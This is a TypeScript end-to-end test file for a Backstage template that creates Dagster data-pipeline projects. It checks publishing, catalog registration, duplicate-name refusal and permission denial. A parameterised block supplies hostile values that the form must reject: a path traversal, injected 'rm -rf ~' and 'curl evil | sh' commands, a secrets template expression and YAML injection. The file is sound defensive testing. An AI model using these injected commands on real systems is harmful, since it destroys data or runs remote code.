import { mockCredentials } from '@backstage/backend-test-utils';
import {
  DAGSTER_CODE_LOCATION_ANNOTATION,
  PROJECT_ANNOTATIONS,
} from '@internal/backstage-plugin-dagster-common';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import request from 'supertest';
import {
  startTemplateBackend,
  TEMPLATE_REF,
  TemplateBackend,
} from '../__testUtils__/templateBackend';
import { projectValues } from '../__testUtils__/projectValues';

jest.setTimeout(180_000);

const DANA = 'user:default/dana.datateam';
const auth = mockCredentials.user.header(DANA);

describe('creating a project from the template, end to end in the backend', () => {
  let backend: TemplateBackend;
  beforeAll(async () => {
    backend = await startTemplateBackend();
    await waitFor(async () => {
      const res = await request(backend.server)
        .get(
          `/api/catalog/entities/by-name/template/default/dagster-pipeline-project`,
        )
        .set('authorization', auth);
      return res.status === 200;
    }, 'the template to be in the catalog');
  });
  afterAll(() => backend?.stop());

  async function runTask(values: Record<string, unknown>) {
    const created = await request(backend.server)
      .post('/api/scaffolder/v2/tasks')
      .set('authorization', auth)
      .send({ templateRef: TEMPLATE_REF, values });
    if (created.status !== 201)
      return { status: created.status, body: created.body };
    let task: any;
    await waitFor(async () => {
      task = (
        await request(backend.server)
          .get(`/api/scaffolder/v2/tasks/${created.body.id}`)
          .set('authorization', auth)
      ).body;
      return task.status === 'completed' || task.status === 'failed';
    }, `task ${created.body.id} to finish`);
    const events = await request(backend.server)
      .get(`/api/scaffolder/v2/tasks/${created.body.id}/events`)
      .set('authorization', auth);
    const log = (events.body as { body: { message?: string } }[])
      .map(e => e.body.message ?? '')
      .join('\n');
    const completion = (
      events.body as { type: string; body: { output?: any } }[]
    ).find(e => e.type === 'completion');
    return {
      status: created.status,
      task,
      log,
      output: completion?.body.output,
    };
  }

  const registered = (name: string) =>
    request(backend.server)
      .get(`/api/dagster/projects/${name}`)
      .set('authorization', auth);

  const demoRepositoryExists = (name: string) =>
    fs.existsSync(`${backend.demoRepositories}/${name}.git`);

  it('publishes to the demo repository, registers with the platform and the catalog', async () => {
    const values = projectValues({
      name: 'benefit-claims',
      owner: 'group:default/claims-data-team',
      personalData: true,
      lawfulBasis: 'public-task',
      retentionPeriod: 'P7Y',
      classification: 'OFFICIAL-SENSITIVE',
    });
    const { task, log, output } = await runTask(values);
    expect(log).not.toMatch(/error/i);
    expect(task.status).toBe('completed');

    const repository = `${backend.demoRepositories}/benefit-claims.git`;
    const files = execFileSync('git', [
      '--git-dir',
      repository,
      'ls-tree',
      '-r',
      '--name-only',
      'main',
    ])
      .toString()
      .split('\n');
    expect(files).toEqual(
      expect.arrayContaining([
        'catalog-info.yaml',
        'pyproject.toml',
        'Dockerfile',
      ]),
    );
    expect(
      execFileSync('git', [
        '--git-dir',
        repository,
        'log',
        '--format=%an',
        'main',
      ])
        .toString()
        .trim(),
    ).toBe('dana.datateam');

    const project = await registered('benefit-claims');
    expect(project.status).toBe(200);
    expect(project.body).toMatchObject({
      owner: 'group:default/claims-data-team',
      department: 'Department for Transport',
      costCentre: 'DFT-77',
      monthlyBudgetGbp: 900,
      classification: 'OFFICIAL-SENSITIVE',
      personalData: true,
      lawfulBasis: 'public-task',
      retentionPeriod: 'P7Y',
      registeredBy: DANA,
    });

    let component: any;
    await waitFor(async () => {
      const res = await request(backend.server)
        .get('/api/catalog/entities/by-name/component/default/benefit-claims')
        .set('authorization', auth);
      component = res.body;
      return res.status === 200;
    }, 'the new component in the catalog');
    expect(component.spec).toMatchObject({
      owner: 'group:default/claims-data-team',
      system: 'benefit-claims',
    });
    expect(component.metadata.annotations).toMatchObject({
      [DAGSTER_CODE_LOCATION_ANNOTATION]: 'benefit-claims',
      [PROJECT_ANNOTATIONS.costCentre]: 'DFT-77',
      'backstage.io/managed-by-location': `url:file://${repository}/blob/main/catalog-info.yaml`,
    });
    // The finished task links to the new Component and says where the demo repository is.
    expect(output.links).toContainEqual(
      expect.objectContaining({
        entityRef: 'component:default/benefit-claims',
      }),
    );
    expect(JSON.stringify(output.text)).toContain(
      `git clone file://${repository}`,
    );

    // The same name again is refused at the first step, and nothing is touched.
    const again = await runTask({ ...values, monthlyBudgetGbp: 1 });
    expect(again.task.status).toBe('failed');
    expect(again.log).toMatch(
      /name: "benefit-claims" is already taken in the catalog/,
    );
    expect((await registered('benefit-claims')).body.monthlyBudgetGbp).toBe(
      900,
    );
  });

  it.each([
    [
      'name',
      { name: '../escape' },
      /^form 400: .*instance.name does not match pattern/,
    ],
    [
      'name',
      { name: 'x;rm -rf ~' },
      /^form 400: .*instance.name does not match pattern/,
    ],
    [
      'name',
      { name: "a'; curl evil | sh" },
      /^form 400: .*instance.name does not match pattern/,
    ],
    [
      'description',
      { description: '${{ secrets.GITHUB_TOKEN }}' },
      /^task failed: .*description: must not contain template expressions/,
    ],
    [
      'description',
      { description: 'x\nkind: Group\nmetadata: {name: admins}' },
      /^task failed: .*description: must be a single line/,
    ],
    [
      'department',
      { department: 'DfT: {evil: yes}' },
      /^form 400: .*instance.department does not match pattern/,
    ],
    [
      'classification',
      { classification: 'SECRET' },
      /^form 400: .*instance.classification is not one of enum values: OFFICIAL,OFFICIAL-SENSITIVE/,
    ],
    [
      'lawfulBasis',
      { personalData: true, retentionPeriod: 'P7Y' },
      /^form 400: .*does not meet dependency required by instance.personalData/,
    ],
  ])(
    'refuses a bad %s, creating and registering nothing',
    async (_field, bad, refusal) => {
      const name = (bad as { name?: string }).name ?? 'should-not-exist';
      const result = await runTask(
        projectValues({ name: 'should-not-exist', ...bad }),
      );
      const outcome = result.task
        ? `task ${result.task.status}: ${(result.log ?? '').replace(
            /\n/g,
            ' ',
          )}`
        : `form ${result.status}: ${JSON.stringify(result.body)}`;
      expect(outcome).toMatch(refusal);
      expect(fs.readdirSync(backend.demoRepositories)).not.toContain(
        `${name}.git`,
      );
      expect(demoRepositoryExists('should-not-exist')).toBe(false);
      expect((await registered('should-not-exist')).status).toBe(404);
      const listed = await request(backend.server)
        .get('/api/dagster/projects')
        .set('authorization', auth);
      expect(
        listed.body.items.map((p: { name: string }) => p.name),
      ).not.toContain(name);
    },
  );
});

describe('creating a project without permission to register it', () => {
  let backend: TemplateBackend;
  beforeAll(async () => {
    backend = await startTemplateBackend({ denyProjectCreation: true });
  });
  afterAll(() => backend?.stop());

  it('stops at the first step: nothing is generated, published or registered', async () => {
    await waitFor(async () => {
      const res = await request(backend.server)
        .get(
          '/api/catalog/entities/by-name/template/default/dagster-pipeline-project',
        )
        .set('authorization', auth);
      return res.status === 200;
    }, 'the template to be in the catalog');
    const created = await request(backend.server)
      .post('/api/scaffolder/v2/tasks')
      .set('authorization', auth)
      .send({
        templateRef: TEMPLATE_REF,
        values: projectValues({ name: 'not-allowed' }),
      });
    expect(created.status).toBe(201);
    let status = '';
    await waitFor(async () => {
      const task = await request(backend.server)
        .get(`/api/scaffolder/v2/tasks/${created.body.id}`)
        .set('authorization', auth);
      status = task.body.status;
      return status === 'failed' || status === 'completed';
    }, 'the task to finish');
    expect(status).toBe('failed');
    const events = await request(backend.server)
      .get(`/api/scaffolder/v2/tasks/${created.body.id}/events`)
      .set('authorization', auth);
    const log = JSON.stringify(events.body);
    expect(log).toMatch(
      /You are not allowed to create projects on the data platform/,
    );
    expect(log).not.toMatch(/Beginning step Generate the Dagster project/);
    expect(fs.readdirSync(backend.demoRepositories)).toEqual([]);
  });
});

async function waitFor(
  check: () => Promise<boolean>,
  what: string,
  timeoutMs = 60_000,
) {
  const deadline = Date.now() + timeoutMs;
  while (Date.now() < deadline) {
    if (await check()) return;
    await new Promise(resolve => setTimeout(resolve, 250));
  }
  throw new Error(`Timed out waiting for ${what}`);
}
